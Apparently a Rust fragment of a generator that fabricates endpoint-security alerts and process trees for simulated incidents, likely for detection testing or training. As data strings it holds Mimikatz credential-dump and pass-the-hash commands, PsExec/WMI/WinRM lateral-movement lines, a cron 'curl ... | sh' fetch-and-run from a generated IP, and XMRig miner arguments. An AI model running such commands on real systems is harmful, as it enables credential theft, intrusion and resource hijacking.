            (pd, x)
        } else {
            let after = self.r(30 * SEC, 90 * SEC);
            let args = format!(
                r#""privilege::debug" "sekurlsa::logonpasswords" "sekurlsa::pth /user:{adm_short} /domain:{domain} /ntlm:{ntlm} /run:cmd.exe" exit"#
            );
            let x = self.child(
                cmd,
                tool.clone(),
                format!(r"C:\ProgramData\{tool_name} {args}"),
                &victim,
                after,
            );
            (x, x)
        };
        self.p.procs[x].crossproc = self.ri(3..20);
        let after = self.r(5 * SEC, 15 * SEC);
        let cmd_a = self.child(x, Img::bin(&CMD), "cmd.exe".into(), &adm, after);

        let t_dump = self.p.procs[dumper].start;
        let sev = self.ri(8..=9);
        let dumper_name = basename(&self.p.procs[dumper].img.path).to_string();
        let (reason, code) = if procdump {
            (
                format!(
                    "{dumper_name} created a memory dump of lsass.exe, a common way to steal credentials."
                ),
                "R_LSASS_DUMP",
            )
        } else {
            (
                format!(
                    "A known credential theft tool ({tool_name}, HackTool:Mimikatz) read the memory of lsass.exe."
                ),
                "T_REP_HACKTOOL",
            )
        };
        let a_first = self.alert(
            "CB_ANALYTICS",
            dumper,
            sev,
            reason,
            code.into(),
            tid.clone(),
            if procdump { OBSERVED } else { TERMINATED },
            (
                &[
                    "MITRE_T1003_001_LSASS_MEMORY",
                    "MITRE_T1003_CREDENTIAL_DUMP",
                    "MITRE_T1550_002_PASS_THE_HASH",
                    "READ_SECURITY_DATA",
                    "RAM_SCRAPING",
                    if procdump {
                        "ADAPTIVE_WHITE_APP"
                    } else {
                        "RUN_MALWARE_APP"
                    },
                ],
                "TA0006",
                "T1003.001",
            ),
            t_dump + self.r(2 * SEC, 20 * SEC),
        );
        let o = self.obs(
            dumper,
            t_dump + self.r(200, 2 * SEC),
            Ev::Cross(r"c:\windows\system32\lsass.exe"),
            &["MITRE_T1003_001_LSASS_MEMORY", "READ_SECURITY_DATA"],
        );
        self.link(o, a_first);

        // Which targets alert: at least one.
        let mut alerting: Vec<bool> = (0..n).map(|_| self.chance(0.6)).collect();
        if !alerting.contains(&true) {
            alerting[0] = true;
        }
        let mut t = self.p.procs[cmd_a].start + self.r(30 * SEC, 90 * SEC);
        let mut outbound: Vec<usize> = Vec::new();
        let mut first_hop_proc = None;
        for (k, &dst) in targets.iter().enumerate() {
            let hop = hops[k];
            t += self.r(40 * SEC, 4 * MIN);
            let host = org.devices[dst].name.clone();
            let remote_args = "privilege::debug sekurlsa::logonpasswords exit";
            let rel = t - self.p.procs[cmd_a].start;
            let src_proc = match hop {
                Hop::PsExec => {
                    let img = Img::known(
                        r"c:\programdata\psexec64.exe".into(),
                        "psexec64.exe",
                        TRUSTED,
                        MS_CORP,
                    );
                    let cmdline = format!(
                        r"PsExec64.exe \\{host} -accepteula -u {adm} -p ******** -c -f C:\ProgramData\{tool_name} {remote_args}"
                    );
                    self.child(cmd_a, img, cmdline, &adm, rel)
                }
                Hop::Wmi => {
                    let cmdline = format!(
                        r#"wmic.exe /node:"{host}" /user:"{adm}" /password:"********" process call create "cmd.exe /c C:\ProgramData\{tool_name} {remote_args} > C:\ProgramData\o.txt 2>&1""#
                    );
                    self.child(cmd_a, Img::bin(&WMIC), cmdline, &adm, rel)
                }
                Hop::Rdp => self.child(
                    cmd_a,
                    Img::bin(&MSTSC),
                    format!("mstsc.exe /v:{host} /admin"),
                    &adm,
                    rel,
                ),
                Hop::WinRm => {
                    let cmdline = format!(
                        r#"powershell.exe -nop -c "Invoke-Command -ComputerName {host} -ScriptBlock {{ C:\ProgramData\{tool_name} {remote_args} }}""#
                    );
                    self.child(cmd_a, Img::bin(&POWERSHELL), cmdline, &adm, rel)
                }
            };
            self.ttp(src_proc, &[hop.ttp(), "MITRE_T1078_VALID_ACCOUNTS"]);
            first_hop_proc.get_or_insert(src_proc);

            // The target side.
            let boot = self.boot();
            let services = self.services(dst, boot);
            let t_in = t + self.r(SEC, 3 * SEC);
            let (listener, x_remote) = match hop {
                Hop::PsExec => {
                    let sys = self.system(dst, boot);
                    let svc = self.child(
                        services,
                        Img::bin(&PSEXESVC),
                        r"C:\Windows\PSEXESVC.exe".into(),
                        SYSTEM,
                        t_in + 2 * SEC - boot,
                    );
                    let xr = self.child(
                        svc,
                        tool.at(format!(r"c:\windows\{tool_name}")),
                        format!(r"C:\Windows\{tool_name} {remote_args}"),
                        &adm,
                        self.r(SEC, 3 * SEC),
                    );
                    (sys, xr)
                }
                Hop::Wmi => {
                    let svc = self.svchost(services, "DcomLaunch -p", SYSTEM);
                    let start = t_in + 2 * SEC - self.p.procs[svc].start;
                    let wmi = self.child(
                        svc,
                        Img::bin(&WMIPRVSE),
                        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding".into(),
                        NETWORK_SERVICE,
                        start,
                    );
                    let c = self.child(
                        wmi,
                        Img::bin(&CMD),
                        format!(r"cmd.exe /c C:\ProgramData\{tool_name} {remote_args} > C:\ProgramData\o.txt 2>&1"),
                        &adm,
                        self.r(SEC, 2 * SEC),
                    );
                    let xr = self.child(
                        c,
                        tool.clone(),
                        format!(r"C:\ProgramData\{tool_name} {remote_args}"),
                        &adm,
                        self.r(100, SEC),
                    );
                    (svc, xr)
                }
                Hop::Rdp => {
                    let svc = self.svchost(services, "termsvcs -s TermService", NETWORK_SERVICE);
                    let ex = self.explorer(dst, &adm, t_in + self.r(15 * SEC, 40 * SEC));
                    let xr = self.child(
                        ex,
                        tool.at(format!(r"c:\users\{adm_short}\desktop\{tool_name}")),
                        format!(r#""C:\Users\{adm_short}\Desktop\{tool_name}" {remote_args}"#),
                        &adm,
                        self.r(40 * SEC, 2 * MIN),
                    );
                    (svc, xr)
                }
                Hop::WinRm => {
                    let svc = self.svchost(services, "DcomLaunch -p", SYSTEM);
                    let start = t_in + 2 * SEC - self.p.procs[svc].start;
                    let wsm = self.child(
                        svc,
                        Img::bin(&WSMPROVHOST),
                        r"C:\Windows\system32\wsmprovhost.exe -Embedding".into(),
                        &adm,
                        start,
                    );
                    let xr = self.child(
                        wsm,
                        tool.clone(),
                        format!(r"C:\ProgramData\{tool_name} {remote_args}"),
                        &adm,
                        self.r(SEC, 4 * SEC),
                    );
                    (svc, xr)
                }
            };
            self.p.procs[x_remote].crossproc = self.ri(3..20);
            let (o_out, o_in) = self.lateral(src_proc, listener, hop.port(), t, hop.ttp());
            outbound.push(o_out);
            if alerting[k] {
                let tx = self.p.procs[x_remote].start;
                let a = if hop == Hop::PsExec && self.chance(0.5) {
                    let svc = match self.p.procs[x_remote].parent {
                        Parent::In(p) => p,
                        _ => x_remote,
                    };
                    let sev = self.ri(6..=7);
                    self.watchlist(svc, &R_PSEXEC_SVC, sev, tx + self.r(30 * SEC, 2 * MIN))
                } else {
                    let sev = self.ri(7..=9);
                    let reason = format!(
                        "A known credential theft tool ({tool_name}) was executed by {adm} through {} from {}.",
                        hop.label(),
                        org.devices[src].name
                    );
                    self.alert(
                        "CB_ANALYTICS",
                        x_remote,
                        sev,
                        reason,
                        "T_REP_HACKTOOL".into(),
                        tid.clone(),
                        TERMINATED,
                        (
                            &[
                                hop.ttp(),
                                "MITRE_T1078_VALID_ACCOUNTS",
                                "MITRE_T1570_LATERAL_TOOL_TRANSFER",
                                "MITRE_T1003_001_LSASS_MEMORY",
                                "RUN_MALWARE_APP",
                            ],
                            "TA0008",
                            hop.technique(),
                        ),
                        tx + self.r(2 * SEC, 20 * SEC),
                    )
                };
                self.link(o_in, a);
                let o = self.obs(
                    x_remote,
                    tx + self.r(200, 2 * SEC),
                    Ev::Cross(r"c:\windows\system32\lsass.exe"),
                    &["MITRE_T1003_001_LSASS_MEMORY"],
                );
                self.link(o, a);
            }
        }

        // Optionally the first host alerts on the lateral movement itself.
        let link_to = match first_hop_proc {
            Some(p) if self.chance(0.6) => {
                let name = basename(&self.p.procs[p].img.path).to_string();
                let ports: Vec<String> = hops[..n].iter().map(|h| h.port().to_string()).collect();
                let sev = self.ri(6..=8);
                let mut ttps = vec![
                    "MITRE_T1570_LATERAL_TOOL_TRANSFER",
                    "MITRE_T1078_VALID_ACCOUNTS",
                    "NETWORK_ACCESS",
                ];
                ttps.extend(hops[..n].iter().map(|h| h.ttp()));
                let detect = t + self.r(10 * SEC, 60 * SEC);
                let start = self.p.procs[p].start;
                self.alert(
                    "CB_ANALYTICS",
                    p,
                    sev,
                    format!("{name} run as {adm} connected to {n} internal hosts on ports {} shortly after credentials were dumped.", ports.join("/")),
                    "R_LATERAL_MOVEMENT".into(),
                    tid,
                    OBSERVED,
                    (&ttps, "TA0008", hops[0].technique()),
                    detect.max(start + SEC),
                )
            }
            _ => a_first,
        };
        for o in outbound {
            self.link(o, link_to);
        }
    }

    fn miner(&mut self) {
        let org = self.org;
        let linux: Vec<usize> = (0..org.devices.len())
            .filter(|&d| org.devices[d].os == Os::Linux)
            .collect();
        let win_servers = org.windows(Some(Role::Server));
        let use_linux = !linux.is_empty() && self.chance(0.6);
        let pool = format!(
            "{}.{}.example",
            self.any(&["pool", "xmr", "stratum"]),
            self.any(&["minexmr-mirror", "hashvault-eu", "c3pool-proxy"])
        );
        let port: u16 = self.any(&[3333, 4444]);
        let wallet: String = {
            const B58: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
            let tail: String = (0..94).map(|_| char::from(self.any(B58))).collect();
            format!("4{tail}")
        };
        let miner_args =
            format!("-o stratum+tcp://{pool}:{port} -u {wallet} -p x -k --donate-level 1 -B");
        let boot = self.boot();
        let (miner, parent_for_obs) = if use_linux {
            let dev = self.pick(&linux);
            let user = self.any(&["www-data", "root", "tomcat"]);
            let systemd = self.proc(
                dev,
                Parent::None,
                Img::bin(&SYSTEMD),
                "/usr/lib/systemd/systemd --system --deserialize 31".into(),
                "root",
                boot,
            );
            self.p.procs[systemd].pid = 1;
            let cron = self.child(
                systemd,
                Img::bin(&CRON),
                "/usr/sbin/cron -f -P".into(),
                "root",
                self.r(5 * SEC, 30 * SEC),
            );
            let dl = self.ext_ip();
            let dl_s = ip_str(dl);
            let sh_cmd = format!(
                "/bin/sh -c (curl -fsSL http://{dl_s}/ldr.sh || wget -q -O- http://{dl_s}/ldr.sh) | sh"
            );
            let sh = self.child(cron, Img::bin(&DASH), sh_cmd, user, -boot + self.r(0, MIN));
            let curl = self.child(
                sh,
                Img::bin(&CURL),
                format!("curl -fsSL http://{dl_s}/ldr.sh"),
                user,
                self.r(50, 500),
            );
            let o = self.obs(
                curl,
                self.p.procs[curl].start + 300,
                Ev::Net {
                    remote: dl,
                    port: 80,
                    remote_port: 80,
                    local_port: self.ri(32768..60999u16),
                    inbound: false,
                    domain: None,
                    location: Some("Hong Kong,,Hong Kong"),
                    blocked: false,
                },
                &[
                    "NETWORK_ACCESS",
                    "ACTIVE_CLIENT",
                    "MITRE_T1105_INGRESS_TOOL_TRANSFER",
                ],
            );
            let name = self
                .any(&["kswapd0", "kworkerds", ".x11-unix-d", "dbus-daemon-x"])
                .to_string();
            let dir = self
                .any(&["/tmp/.ICE-unix/.x", "/var/tmp/.cache", "/dev/shm/.m"])
                .to_string();
            let img = self.fresh(format!("{dir}/{name}"), PUP, PUP);
            let m = self.child(
                sh,
                img,
                format!("{dir}/{name} {miner_args}"),
                user,
                self.r(3 * SEC, 20 * SEC),
            );
            (m, Some(o))
        } else {
            let dev = self.pick(&win_servers);
            let services = self.services(dev, boot);
            let sched = self.svchost(services, "netsvcs -p -s Schedule", SYSTEM);
            let start = -self.p.procs[sched].start + self.r(0, MIN);
            let name = self
                .any(&["msupdate.exe", "wuauhelper.exe", "svchosts.exe"])
                .to_string();
            let path = format!(r"c:\programdata\intel\{name}");
            let c = self.child(
                sched,
                Img::bin(&CMD),
                format!(r"cmd.exe /c C:\ProgramData\Intel\{name} {miner_args}"),
                SYSTEM,
                start,
            );
            let img = self.fresh(path, PUP, PUP);
            let m = self.child(
                c,
                img,
                format!(r"C:\ProgramData\Intel\{name} {miner_args}"),
                SYSTEM,
                self.r(200, 2 * SEC),
            );
            (m, None)
        };
        self.p.procs[miner].net_extra = self.ri(2..40);
        let t_m = self.p.procs[miner].start;
        let o_pool = self.egress(miner, t_m + self.r(SEC, 10 * SEC), port, pool);
        let name = basename(&self.p.procs[miner].img.path).to_string();
        let sev = self.ri(5..=7);
        let tid = self.threat_id();
        let a = self.alert(
            "CB_ANALYTICS",
            miner,
            sev,
            format!("A cryptocurrency miner ({name}, XMRig family) is running and connected to a mining pool over the stratum protocol."),
            "T_RUN_PUP".into(),
            tid,
            OBSERVED,
            (&["MITRE_T1496_RESOURCE_HIJACKING", "RUN_UNKNOWN_APP", "NETWORK_ACCESS", "ACTIVE_CLIENT"], "TA0040", "T1496"),
            t_m + self.r(20 * SEC, 3 * MIN),
        );
        self.link(o_pool, a);
        if let Some(o) = parent_for_obs {
            self.link(o, a);
        }
        if self.chance(0.5) {
            let sev = self.ri(5..=6);
            let w = self.watchlist(miner, &R_STRATUM, sev, t_m + self.r(MIN, 6 * MIN));
            self.link(o_pool, w);
        }
    }

    fn false_positive(&mut self, force_inventory: bool) {
        let variant = if force_inventory { 1 } else { self.ri(0..3) };
        let org = self.org;
        let it_ws = (0..org.devices.len())
            .find(|&d| org.devices[d].name.contains("-IT-"))
            .unwrap_or(0);
        let adm = org.users[org.admin].account.clone();
        match variant {
            0 => {
                // An IT admin pushes gpupdate to a server with PsExec.
                let servers: Vec<usize> = org
                    .windows(Some(Role::Server))
                    .into_iter()
                    .filter(|&d| d != it_ws)
                    .collect();
                let dst = self.pick(&servers);
                let host = org.devices[dst].name.clone();
                let it_user = org.users[org.it_person].account.clone();
                let logon = -self.r(HOUR, 5 * HOUR);
                let ex = self.explorer(it_ws, &it_user, logon);
                let c = self.child(
                    ex,
                    Img::bin(&CMD),
                    r#""C:\Windows\system32\cmd.exe" "#.into(),
                    &adm,
                    -logon + self.r(0, MIN),
                );
                let img = Img::known(
                    r"c:\tools\sysinternals\psexec64.exe".into(),
                    "psexec64.exe",
                    TRUSTED,
                    MS_CORP,
                );
                let cmd_line =
                    format!(r#"PsExec64.exe \\{host} -accepteula -s cmd /c "gpupdate /force""#);
                let px = self.child(c, img, cmd_line, &adm, self.r(20 * SEC, 2 * MIN));
                let t = self.p.procs[px].start + self.r(200, SEC);
                let boot = self.boot();
                let sys = self.system(dst, boot);
                let services = self.services(dst, boot);
                let svc = self.child(
                    services,
                    Img::bin(&PSEXESVC),
                    r"C:\Windows\PSEXESVC.exe".into(),
                    SYSTEM,
                    t + 2 * SEC - boot,
                );
                let rc = self.child(
                    svc,
                    Img::bin(&CMD),
                    r#"cmd /c "gpupdate /force""#.into(),
                    SYSTEM,
                    self.r(SEC, 2 * SEC),
                );
                self.child(
                    rc,
                    Img::bin(&GPUPDATE),
                    "gpupdate  /force".into(),
                    SYSTEM,
                    self.r(50, 500),
                );
                let (o_out, _o_in) = self.lateral(px, sys, 445, t, Hop::PsExec.ttp());
                let sev = self.ri(2..=4);
                let a = self.watchlist(px, &R_PSEXEC_USE, sev, t + self.r(30 * SEC, 3 * MIN));
                self.link(o_out, a);
            }
            1 => {
                // A scheduled PowerShell inventory script read from the IT share.
                let ws = org.windows(None);
                let dev = self.pick(&ws);
                let fs = org.devices[org.file_server].name.clone();
                let script = if org.japanese {
                    "資産棚卸.ps1"
                } else {
                    "Get-AssetInventory.ps1"
                };
                let boot = self.boot();
                let services = self.services(dev, boot);
                let sched = self.svchost(services, "netsvcs -p -s Schedule", SYSTEM);
                let start = -self.p.procs[sched].start + self.r(0, MIN);
                let ps = self.child(
                    sched,
                    Img::bin(&POWERSHELL),
                    format!(r"powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File \\{fs}\it$\scripts\{script}"),
                    &adm,
                    start,
                );
                self.p.procs[ps].scriptload = 1;
                let si = self.child(
                    ps,
                    Img::bin(&SYSTEMINFO),
                    "systeminfo.exe /fo csv".into(),
                    &adm,
                    self.r(2 * SEC, 6 * SEC),
                );
                self.child(
                    ps,
                    Img::bin(&WMIC),
                    "wmic.exe product get name,version /format:csv".into(),
                    &adm,
                    self.r(8 * SEC, 20 * SEC),
                );
                self.child(
                    ps,
                    Img::bin(&WHOAMI),
                    "whoami.exe /all".into(),
                    &adm,
                    self.r(20 * SEC, 30 * SEC),
                );
                let t_ps = self.p.procs[ps].start;
                let sev = self.ri(2..=3);
                let tid = self.threat_id();
                let a = self.alert(
                    "CB_ANALYTICS",
                    ps,
                    sev,
                    format!("powershell.exe ran the script {script} from a network share with ExecutionPolicy Bypass and enumerated system information."),
                    "R_PS_BYPASS_SCRIPT".into(),
                    tid,
                    OBSERVED,
                    (&["MITRE_T1059_001_POWERSHELL", "MITRE_T1082_SYS_INFO_DISCOVERY", "MITRE_T1053_005_SCHEDULED_TASK", "RUN_CMD_SHELL"], "TA0002", "T1059.001"),
                    t_ps + self.r(30 * SEC, 90 * SEC),
                );
                let fs_dev = org.file_server;
                if fs_dev != dev {
                    // Reading the script from \\FS01\it$: SMB to the file server.
                    let remote = org.devices[fs_dev].ip;
                    let o = self.obs(
                        ps,
                        t_ps + self.r(100, SEC),
                        Ev::Net {
                            remote,
                            port: 445,
                            remote_port: 445,
                            local_port: self.ri(49152..65535u16),
                            inbound: false,
                            domain: None,
                            location: None,
                            blocked: false,
                        },
                        &["NETWORK_ACCESS", "ACTIVE_CLIENT"],
                    );
                    self.link(o, a);
                }
                let o = self.obs(
                    ps,
                    self.p.procs[si].start,
                    Ev::Child(si),
                    &["MITRE_T1082_SYS_INFO_DISCOVERY"],
                );
                self.link(o, a);
            }
            _ => {
                // The remote-management agent IT uses for helpdesk sessions.
                let ws = org.windows(Some(Role::Workstation));
                let dev = self.pick(&ws);
                let boot = self.boot();
                let services = self.services(dev, boot);
                let ad = self.child(
                    services,
                    Img::bin(&ANYDESK),
                    r#""C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service"#.into(),
                    SYSTEM,
                    self.r(20 * SEC, 60 * SEC),
                );
                self.p.procs[ad].net_extra = self.ri(2..10);
                let start = -self.p.procs[ad].start + self.r(0, MIN);
                let c = self.child(
                    ad,
                    Img::bin(&CMD),
                    "cmd.exe /c ipconfig /all".into(),
                    SYSTEM,
                    start,
                );
                self.child(
                    c,
                    Img::bin(&IPCONFIG),
                    "ipconfig  /all".into(),
                    SYSTEM,
                    self.r(50, 500),
                );
                let t = self.p.procs[c].start;
                let relay = format!("relay-{}.net.anydesk.example", self.hex(8));
                let o = self.egress(ad, t - self.r(5 * SEC, 30 * SEC), 443, relay);
                let sev = self.ri(2..=4);
                let a = self.watchlist(ad, &R_RMM, sev, t + self.r(30 * SEC, 2 * MIN));
                self.link(o, a);
            }
        }
    }

    fn device_control(&mut self) {
        let org = self.org;
        let ws: Vec<usize> = (0..org.devices.len())
            .filter(|&d| org.devices[d].role == Role::Workstation)
            .collect();
        let dev = self.pick(&ws);
        let usb: [(&str, &str, &str, &str, &str); 5] = [
            (
                "SanDisk",
                "0x0781",
                "Ultra USB 3.0",
                "0x5581",
                "SanDisk Ultra USB 3.0 USB Device",
            ),
            (
                "Kingston",
                "0x0951",
                "DataTraveler 3.0",
                "0x1666",
                "Kingston DataTraveler 3.0 USB Device",
            ),
            (
                "BUFFALO",
                "0x0411",
                "USB Flash Disk",
                "0x01E8",
                if org.japanese {
                    "BUFFALO USBフラッシュメモリ"
                } else {
                    "BUFFALO USB Flash Disk USB Device"
                },
            ),
            (
                "I-O DATA",
                "0x04BB",
                "USB Flash Memory",
                "0x0C6A",
                if org.japanese {
                    "I-O DATA USBメモリ"
                } else {
                    "I-O DATA USB Flash Memory USB Device"
                },
            ),
            (
                "Generic",
                "0x058F",
                "Mass Storage",
                "0x6387",
                "Generic Flash Disk USB Device",
            ),
        ];
        let (vendor, vid, product, pid, friendly) = self.any(&usb);
        let serial = self.hex(16).to_uppercase();
        let detect = -self.r(0, 10 * SEC);
        let id = self.uuid();
        let event_id = self.uuid().to_uppercase();
        let threat_id = self.threat_id();
        self.p.alerts.push(Alert {
            id,
            typ: "DEVICE_CONTROL",
            dev,
            proc: None,
            child: None,
            severity: 3,
            reason: format!("Access attempted on unapproved USB device {vendor} {product} (SN: {serial}). A Deny Policy Action was applied."),
            reason_code: format!("{}:{}", stable_uuid("device-control-policy").to_uppercase(), stable_uuid(&format!("usb:{vendor}")).to_uppercase()),
            threat_id,
            event_id,
            act: DENIED,
            ttps: Vec::new(),
            tactic: "",
            technique: "",
            first: detect,
            last: detect,
            detect,
            backend: detect + self.r(30 * SEC, 3 * MIN),
            extra: vec![
                ("vendor_name", json!(vendor)),
                ("vendor_id", json!(vid)),
                ("product_name", json!(product)),
                ("product_id", json!(pid)),
                ("external_device_friendly_name", json!(friendly)),
                ("serial_number", json!(serial)),
            ],
        });
    }

    fn firewall(&mut self) {
        let org = self.org;
        let ws = org.windows(Some(Role::Workstation));
        let dev = self.pick(&ws);
        let user = org.users[org.devices[dev].user].account.clone();
        let logon = -self.r(HOUR, 6 * HOUR);
        let ex = self.explorer(dev, &user, logon);
        let after = self.r(MIN, 20 * MIN);
        let domain = format!("{}.example.net", self.letters(7));
        let (rule, port, net) = match self.ri(0..3) {
            0 => {
                let c = self.child(
                    ex,
                    Img::bin(&CMD),
                    r#""C:\Windows\system32\cmd.exe" "#.into(),
                    &user,
                    after,
                );
                let cmd = format!("ftp.exe -i -s:upload.txt {domain}");
                let ftp = self.child(c, Img::bin(&FTP), cmd, &user, self.r(10 * SEC, 5 * MIN));
                ("Block outbound FTP", 21u16, ftp)
            }
            1 => {
                let c = self.child(
                    ex,
                    Img::bin(&CMD),
                    r#""C:\Windows\system32\cmd.exe" "#.into(),
                    &user,
                    after,
                );
                let cmd = format!(
                    r#"powershell.exe -c "Send-MailMessage -SmtpServer mail.{domain} -From scanner@{domain} -To it@{domain} -Subject report -Attachments .\report.csv""#
                );
                let ps = self.child(
                    c,
                    Img::bin(&POWERSHELL),
                    cmd,
                    &user,
                    self.r(10 * SEC, 5 * MIN),
                );
                ("Block direct SMTP", 25, ps)
            }
            _ => {
                let chrome = self.child(
                    ex,
                    Img::bin(&CHROME),
                    r#""C:\Program Files\Google\Chrome\Application\chrome.exe" "#.into(),
                    &user,
                    after,
                );
                self.p.procs[chrome].net_extra = self.ri(20..200);
                let net = self.child(
                    chrome,
                    Img::bin(&CHROME),
                    r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --service-sandbox-type=none"#.into(),
                    &user,
                    self.r(SEC, 3 * SEC),
                );
                ("Block non-standard web ports", 8443, net)
            }
        };
        let t = -self.r(0, 10 * SEC);
        let remote = self.ext_ip();
        let local_port = self.ri(49152..65535u16);
        let o = self.obs(
            net,
            t,
            Ev::Net {
                remote,
                port,
                remote_port: port,
                local_port,
                inbound: false,
                domain: Some(domain.clone()),
                location: Some("Ashburn,VA,United States"),
                blocked: true,
            },
            &["NETWORK_ACCESS", "POLICY_DENY"],
        );
        let tid = self.threat_id();
        let cat = stable_uuid("hbfw-category").to_uppercase();
        let rule_id = stable_uuid(&format!("hbfw:{rule}")).to_uppercase();
        let sev = self.ri(3..=4);
        let a = self.alert(
            "HOST_BASED_FIREWALL",
            net,
            sev,
            format!("Outbound TCP connection blocked by firewall rule group '{rule}'."),
            format!("{cat}:{rule_id}"),
            tid,
            DENIED,
            (&[], "", ""),
            t,
        );
        self.link(o, a);
        let local = ip_str(org.devices[dev].ip);
        let remote_s = ip_str(remote);
        self.p.alerts[a].extra = vec![
            ("rule_category_id", json!(cat)),
            ("rule_id", json!(rule_id)),
            ("netconn_remote_port", json!(port)),
            ("netconn_local_port", json!(local_port)),
            ("netconn_protocol", json!("TCP")),
            ("netconn_remote_domain", json!(domain)),
            ("netconn_remote_ip", json!(remote_s)),
            ("netconn_local_ip", json!(local)),
            ("netconn_remote_ipv4", json!(remote_s)),
            ("netconn_local_ipv4", json!(local)),
        ];
    }
}

// ---------------------------------------------------------------------------------------------
// Rendering plots into documents
// ---------------------------------------------------------------------------------------------

fn os_name(os: Os) -> &'static str {
    match os {
        Os::Windows => "WINDOWS",
        Os::Mac => "MAC",
        Os::Linux => "LINUX",
    }
}

struct Ctx<'a> {
    org: &'a Org,
    plot: &'a Plot,
    base: i64,
    now: i64,
    live: bool,
    guids: Vec<String>,
    /// Alerts kept (the backlog may have trimmed the last story).
    n_alerts: usize,
}

impl Ctx<'_> {
    fn at(&self, rel: i64) -> String {
        iso((self.base + rel).min(self.now))
    }
    fn guid(&self, dev: usize, pid: u32, rel_start: i64) -> String {
        let d = &self.org.devices[dev];
        format!(
            "{}-{:08x}-{pid:08x}-00000000-{}",
            self.org.key,
            d.id,
            filetime_hex(self.base + rel_start)
        )
    }
    fn parent<'b>(&'b self, p: &'b Proc) -> Option<(String, &'b Img, u32, &'b str, &'b str)> {
        match &p.parent {
            Parent::None => None,
            Parent::Ext { img, pid, start } => {
                Some((self.guid(p.dev, *pid, *start), img, *pid, "", &p.user))
            }
            Parent::In(i) => {
                let pp = &self.plot.procs[*i];
                Some((
                    self.guids[*i].clone(),
                    &pp.img,
                    pp.pid,
                    pp.cmd.as_str(),
                    pp.user.as_str(),
                ))
            }
        }
    }
}

fn s(v: &str) -> Value {
    Value::String(v.to_string())
}

fn strs(v: &[&str]) -> Value {
    Value::Array(v.iter().map(|x| s(x)).collect())
}

/// A document's fields, collected first and then turned into a map in one go (`BTreeMap`'s bulk
/// loader fills its nodes completely and skips the per-insert search) or, for the backlog,
/// straight into the store's compact form without ever being a map (see `compact.rs`). A field
/// put twice keeps its last value either way.
struct D(Vec<(&'static str, Value)>);

impl D {
    fn new() -> D {
        D(Vec::with_capacity(80))
    }
    fn put(&mut self, k: &'static str, v: Value) {
        self.0.push((k, v));
    }
    fn done(self) -> Doc {
        self.0
            .into_iter()
            .map(|(k, v)| (k.to_string(), v))
            .collect()
    }
}

/// A rendered story, before it becomes a [`Story`] or an [`EncodedStory`].
struct Rendered {
    alerts: Vec<D>,
    processes: Vec<D>,
    observations: Vec<D>,
}

impl Rendered {
    fn story(self) -> Story {
        let docs = |v: Vec<D>| v.into_iter().map(D::done).collect();
        Story {
            alerts: docs(self.alerts),
            processes: docs(self.processes),
            observations: docs(self.observations),
        }
    }

    fn encode(self) -> EncodedStory {
        let fields = |v: Vec<D>| v.into_iter().map(|d| d.0).collect();
        EncodedStory::from_fields([
            fields(self.alerts),
            fields(self.processes),
            fields(self.observations),
        ])
    }
}

fn put_device(m: &mut D, d: &Dev, policy: &Policy) {
    m.put("device_external_ip", s(&d.ext_ip));
    m.put("device_id", json!(d.id));
    m.put("device_internal_ip", s(&d.ip_s));
    m.put("device_name", s(&d.name));
    m.put("device_os", s(os_name(d.os)));
    m.put("device_policy", s(&policy.name));
    m.put("device_policy_id", json!(policy.id));
}

fn render(org: &Org, plot: &Plot, base: i64, now: i64, live: bool) -> Rendered {
    let mut cx = Ctx {
        org,
        plot,
        base,
        now,
        live,
        guids: Vec::with_capacity(plot.procs.len()),
        n_alerts: plot.alerts.len(),
    };
    cx.guids = plot
        .procs
        .iter()
        .map(|p| cx.guid(p.dev, p.pid, p.start))
        .collect();
    let alerts = plot.alerts.iter().map(|a| render_alert(&cx, a)).collect();
    let processes = (0..plot.procs.len()).map(|i| render_proc(&cx, i)).collect();
    let observations = plot.obs.iter().map(|o| render_obs(&cx, o)).collect();
    Rendered {
        alerts,
        processes,
        observations,
    }
}

fn render_alert(cx: &Ctx, a: &Alert) -> D {
    let org = cx.org;
    let d = &org.devices[a.dev];
    let policy = &org.policies[d.policy];
    let backend = if cx.live {
        iso(cx.now)
    } else {
        cx.at(a.backend)
    };
    let mut m = D::new();
    m.put("org_key", s(&org.key));
    m.put(
        "alert_url",
        Value::String(format!(
            "{}/alerts?s[c][query_string]=id:{}&orgKey={}",
            org.console, a.id, org.key
        )),
    );
    m.put("id", s(&a.id));
    m.put("type", s(a.typ));
    m.put("backend_timestamp", s(&backend));
    m.put("user_update_timestamp", Value::Null);
    m.put("backend_update_timestamp", s(&backend));
    m.put("detection_timestamp", Value::String(cx.at(a.detect)));
    m.put("first_event_timestamp", Value::String(cx.at(a.first)));
    m.put("last_event_timestamp", Value::String(cx.at(a.last)));
    m.put("severity", json!(a.severity));
    m.put("reason", s(&a.reason));
    m.put("reason_code", s(&a.reason_code));
    m.put("threat_id", s(&a.threat_id));
    m.put("primary_event_id", s(&a.event_id));
    m.put("policy_applied", s(a.act.0));
    m.put("run_state", s(a.act.1));
    m.put("sensor_action", s(a.act.2));
    m.put(
        "workflow",
        json!({
            "change_timestamp": backend,
            "changed_by_type": "SYSTEM",
            "changed_by": "ALERT_CREATION",
            "closure_reason": "NO_REASON",
            "status": "OPEN",
        }),
    );
    m.put(
        "determination",
        json!({
            "change_timestamp": backend,
            "value": "NONE",
            "changed_by_type": "SYSTEM",
            "changed_by": "ALERT_CREATION",
        }),
    );
    m.put("tags", Value::Null);
    m.put("alert_notes_present", Value::Bool(false));
    m.put("threat_notes_present", Value::Bool(false));
    m.put("is_updated", Value::Bool(false));
    m.put("device_id", json!(d.id));
    m.put("device_name", s(&d.name));
    m.put("device_uem_id", s(""));
    m.put("device_target_value", s(d.target));
    m.put("device_policy", s(&policy.name));
    m.put("device_policy_id", json!(policy.id));
    m.put("device_os", s(os_name(d.os)));
    m.put("device_os_version", s(d.os_version));
    m.put("device_username", s(&d.login));
    m.put("device_location", s(d.location));
    m.put("device_external_ip", s(&d.ext_ip));
    m.put("device_internal_ip", s(&d.ip_s));
    m.put("mdr_alert", Value::Bool(false));
    m.put("mdr_alert_notes_present", Value::Bool(false));
    m.put("mdr_threat_notes_present", Value::Bool(false));
    if !a.ttps.is_empty() {
        m.put("ttps", strs(&a.ttps));
